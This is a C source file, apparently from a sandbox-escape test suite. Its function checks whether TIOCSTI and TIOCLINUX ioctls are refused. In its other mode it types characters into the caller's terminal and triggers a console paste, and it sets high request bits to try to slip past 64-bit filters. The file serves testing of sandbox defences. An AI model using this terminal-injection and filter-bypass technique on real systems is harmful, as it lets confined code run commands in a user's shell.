// Types at the caller's terminal, by TIOCSTI, and pastes there, by TIOCLINUX: ioctl_tty(2), ioctl_console(2).
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

// With "refused" it tells whether the calls are refused, else it types words[0] and a newline.
void try_terminal(char **words) {
  // The kernel looks at 32 bits of the request, a filter may look at 64.
  static const unsigned long high[] = {0, 1ul << 32, 0xffffffff00000000ul};
  bool refused = strcmp(words[0], "refused") == 0;
  int files[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
  for (int index = 0; index < 4; index++) {
    for (int bits = 0; bits < 3; bits++) {
      char what[64], paste = 3, key = 'x';
      if (!refused) {
        for (const char *text = words[0]; *text; text++) syscall(SYS_ioctl, files[index], TIOCSTI | high[bits], text);
        syscall(SYS_ioctl, files[index], TIOCSTI | high[bits], "\n");
        syscall(SYS_ioctl, files[index], TIOCLINUX | high[bits], &paste);
        continue;
      }
      // Of no descriptor: EBADF where the call is reached. Nothing is typed.
      long answer = syscall(SYS_ioctl, -1, TIOCSTI | high[bits], &key);
      snprintf(what, sizeof what, "TIOCSTI with high bits %lx", high[bits] >> 32);
      report(what, answer == 0 || (errno != EPERM && errno != ENOSYS));
      answer = syscall(SYS_ioctl, -1, TIOCLINUX | high[bits], &paste);
      snprintf(what, sizeof what, "TIOCLINUX with high bits %lx", high[bits] >> 32);
      report(what, answer == 0 || (errno != EPERM && errno != ENOSYS));
    }
    if (refused) return;
  }
}
